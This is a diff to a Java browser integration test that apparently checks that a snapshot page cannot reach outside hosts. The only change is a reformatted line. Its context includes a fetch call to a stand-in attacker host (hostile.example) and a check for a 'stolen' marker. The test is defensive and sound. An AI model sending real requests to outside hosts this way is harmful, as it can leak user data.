@@ -228,8 +228,7 @@ class SnapshotPageIT {
         }
         fetch('http://hostile.example/t').catch(() => 'refused')
         """);
-    browser.awaitTrue(
-        "new Promise(done => setTimeout(() => done(!('stolen' in window)), 1000))");
+    browser.awaitTrue("new Promise(done => setTimeout(() => done(!('stolen' in window)), 1000))");
     assertThat(browser.requests().subList(before, browser.requests().size()))
         .isNotEmpty()
         .allMatch(address -> address.startsWith("file:") || address.startsWith("about:"));
